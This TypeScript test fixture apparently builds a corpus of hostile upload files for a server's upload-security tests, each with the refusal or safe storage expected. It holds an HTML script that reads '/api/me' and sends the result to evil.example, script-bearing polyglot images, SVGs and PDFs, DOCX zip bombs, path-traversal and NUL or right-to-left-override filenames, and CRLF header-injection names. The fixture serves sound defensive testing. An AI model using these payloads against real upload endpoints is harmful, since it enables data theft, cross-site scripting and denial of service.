import sharp from 'sharp';
import { docxParts, deflatedEntry, zeroBombEntry, zipOf } from './zip';

/**
 * Hostile files, made in code (nothing binary is committed). Each says what the server must do
 * with it on a route: refuse it with a 4xx JSON error, or, if its extension is one the route
 * takes, store it under a random key and serve it only safely.
 */
export interface HostileFile {
  label: string;
  /** The name as the uploader's browser sends it (raw UTF-8 in the part header). */
  name: string;
  /** The part header's whole filename parameter, raw, when the name itself is the attack. */
  filenameParam?: Buffer;
  bytes: Buffer;
  expect:
    | { refused: number | 'any' }
    /** Stored where the route takes this extension, refused (415) elsewhere. */
    | { storedIfAccepted: string }
    /** Either is fine (parsers differ on it), but whichever happens must be safe. */
    | { refusedOrStored: true };
}

export const HTML_PAYLOAD = '<html><body><script>fetch("/api/me").then((r) => r.text()).then((t) => new Image().src = "https://evil.example/?" + t)</script></body></html>';

const elf = () => pad(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]));
const exe = () => pad(Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1'));
const pad = (head: Buffer, size = 1024) => Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length))]);
const text = (value: string) => Buffer.from(value, 'utf8');
const pdf = () => text('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');

/** A real picture, so that the gallery (which decodes what it is sent) can take it too. */
async function realImages() {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><rect width="100%" height="100%" fill="#6f9d4f"/></svg>';
  return {
    jpeg: await sharp(Buffer.from(svg)).jpeg().toBuffer(),
    png: await sharp(Buffer.from(svg)).png().toBuffer(),
  };
}

/** Built once per test file: about 1 MB of hostile bytes in all (the zip bombs are small until unpacked). */
export async function hostileCorpus(limitBytes: number): Promise<HostileFile[]> {
  const { jpeg, png } = await realImages();
  const anyPdf = { storedIfAccepted: 'pdf' } as const;
  return [
    // Magic numbers that do not match the name.
    { label: 'an ELF executable named .pdf', name: 'quote.pdf', bytes: elf(), expect: { refused: 415 } },
    { label: 'an ELF executable named .png', name: 'plan.png', bytes: elf(), expect: { refused: 415 } },
    { label: 'a Windows .exe named .jpg', name: 'holiday.jpg', bytes: exe(), expect: { refused: 415 } },
    { label: 'a Windows .exe named .docx', name: 'contract.docx', bytes: exe(), expect: { refused: 415 } },
    { label: 'a plain zip named .png', name: 'site.png', bytes: zipOf([deflatedEntry('payload.html', HTML_PAYLOAD)]), expect: { refused: 415 } },
    { label: 'a plain zip named .docx', name: 'letter.docx', bytes: zipOf([deflatedEntry('payload.html', HTML_PAYLOAD)]), expect: { refused: 415 } },
    { label: 'a PNG named .pdf', name: 'drawing.pdf', bytes: png, expect: { refused: 415 } },
    // Polyglots: valid as what they claim, with a page or script inside.
    { label: 'a PDF with an HTML page and script inside', name: 'polyglot.pdf', bytes: Buffer.concat([pdf(), text(HTML_PAYLOAD)]), expect: anyPdf },
    {
      label: 'a PDF whose open action runs JavaScript',
      name: 'invoice.pdf',
      bytes: text('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
      expect: anyPdf,
    },
    { label: 'an HTML page with a PDF after it', name: 'statement.pdf', bytes: Buffer.concat([text(HTML_PAYLOAD), pdf()]), expect: { refused: 415 } },
    { label: 'a JPEG with an HTML page and script appended', name: 'photo.jpg', bytes: Buffer.concat([jpeg, text(HTML_PAYLOAD)]), expect: { storedIfAccepted: 'jpg' } },
    { label: 'a PNG with a script appended', name: 'plan.png', bytes: Buffer.concat([png, text('<script>alert(document.domain)</script>')]), expect: { storedIfAccepted: 'png' } },
    { label: 'a GIF that is also JavaScript', name: 'anim.gif', bytes: pad(text('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);//;')), expect: { storedIfAccepted: 'gif' } },
    // SVG and HTML: text, with no magic number, so never matched.
    { label: 'an SVG with a script', name: 'logo.svg', bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'), expect: { refused: 415 } },
    { label: 'an SVG with a script named .png', name: 'logo.png', bytes: text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), expect: { refused: 415 } },
    { label: 'an SVG with a script named .jpg', name: 'photo.jpg', bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), expect: { refused: 415 } },
    { label: 'an HTML page named .pdf', name: 'plans.pdf', bytes: text(HTML_PAYLOAD), expect: { refused: 415 } },
    { label: 'an HTML page named .docx', name: 'survey.docx', bytes: text(HTML_PAYLOAD), expect: { refused: 415 } },
    { label: 'an HTML page named .html', name: 'page.html', bytes: text(HTML_PAYLOAD), expect: { refused: 415 } },
    { label: 'an XHTML page named .png', name: 'site.png', bytes: text(`<?xml version="1.0"?>${HTML_PAYLOAD.replace('<html>', '<html xmlns="http://www.w3.org/1999/xhtml">')}`), expect: { refused: 415 } },
    // Zip bombs dressed as Word documents.
    {
      label: 'a DOCX with a 200 MB bomb inside (about 200 KB as sent)',
      name: 'specification.docx',
      bytes: zipOf([...docxParts(), await zeroBombEntry('word/media/image1.png', 200 * 1024 * 1024)]),
      expect: { storedIfAccepted: 'docx' },
    },
    {
      label: 'a DOCX whose [Content_Types].xml unpacks to 50 MB',
      name: 'terms.docx',
      bytes: zipOf([await zeroBombEntry('[Content_Types].xml', 50 * 1024 * 1024), ...docxParts().slice(1)]),
      expect: { refusedOrStored: true },
    },
    // Size.
    { label: 'a JPEG one byte over the limit', name: 'huge.jpg', bytes: pad(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]), limitBytes + 1), expect: { refused: 413 } },
    { label: 'an empty file', name: 'empty.jpg', bytes: Buffer.alloc(0), expect: { refused: 400 } },
    // Names.
    { label: 'a 300-character name', name: `${'a'.repeat(300)}.pdf`, bytes: pdf(), expect: anyPdf },
    { label: 'a name of 10,000 characters', name: `${'b'.repeat(10_000)}.pdf`, bytes: pdf(), expect: { refusedOrStored: true } },
    { label: 'a Japanese name', name: '平面図.pdf', bytes: pdf(), expect: anyPdf },
    { label: 'a name with a right-to-left override hiding .exe', name: 'invoice\u202Efdp.exe', bytes: exe(), expect: { refused: 415 } },
    { label: 'a name with a right-to-left override', name: 'photo\u202Egnp.pdf', bytes: pdf(), expect: anyPdf },
    { label: 'a name with a NUL before .pdf', name: 'report\u0000.pdf', bytes: pdf(), expect: { refusedOrStored: true } },
    { label: 'a name with a NUL hiding .exe', name: 'report.pdf\u0000.exe', bytes: exe(), expect: { refused: 'any' } },
    { label: 'a path-traversal name', name: '../../../../etc/passwd.pdf', bytes: pdf(), expect: anyPdf },
    { label: 'a Windows path-traversal name', name: '..\\..\\..\\Windows\\win.ini.pdf', bytes: pdf(), expect: anyPdf },
    {
      label: 'a name carrying an encoded CRLF and a header',
      name: 'evil\r\nX-Injected: yes\r\n.pdf',
      filenameParam: text(`filename*=UTF-8''evil%0D%0AX-Injected%3A%20yes%0D%0ASet-Cookie%3A%20a%3Db%0D%0A.pdf`),
      bytes: pdf(),
      expect: anyPdf,
    },
    { label: 'a name carrying a raw CRLF and a header', name: 'evil\r\nX-Injected: yes.pdf', filenameParam: text('filename="evil\r\nX-Injected: yes.pdf"'), bytes: pdf(), expect: { refusedOrStored: true } },
    { label: 'a name with quotes and a semicolon', name: 'a"; filename="x.html".pdf', filenameParam: text('filename="a\\"; filename=\\"x.html\\".pdf"'), bytes: pdf(), expect: anyPdf },
    { label: 'an empty name', name: '', filenameParam: text('filename=""'), bytes: pdf(), expect: { refused: 400 } },
    { label: 'a name of dots', name: '..', bytes: pdf(), expect: { refused: 400 } },
  ];
}

/** A multipart body as a browser (or an attacker's script) sends it, with raw bytes in the headers. */
export function multipartBody(file: HostileFile, fields: Record<string, string>, fileField = 'file'): { body: Buffer; contentType: string } {
  const boundary = `----arbour-hostile-${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(text(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
  }
  const filename = file.filenameParam ?? Buffer.concat([text('filename="'), text(file.name.replace(/"/g, '%22')), text('"')]);
  parts.push(
    text(`--${boundary}\r\nContent-Disposition: form-data; name="${fileField}"; `),
    filename,
    text('\r\nContent-Type: application/octet-stream\r\n\r\n'),
    file.bytes,
    text(`\r\n--${boundary}--\r\n`),
  );
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}
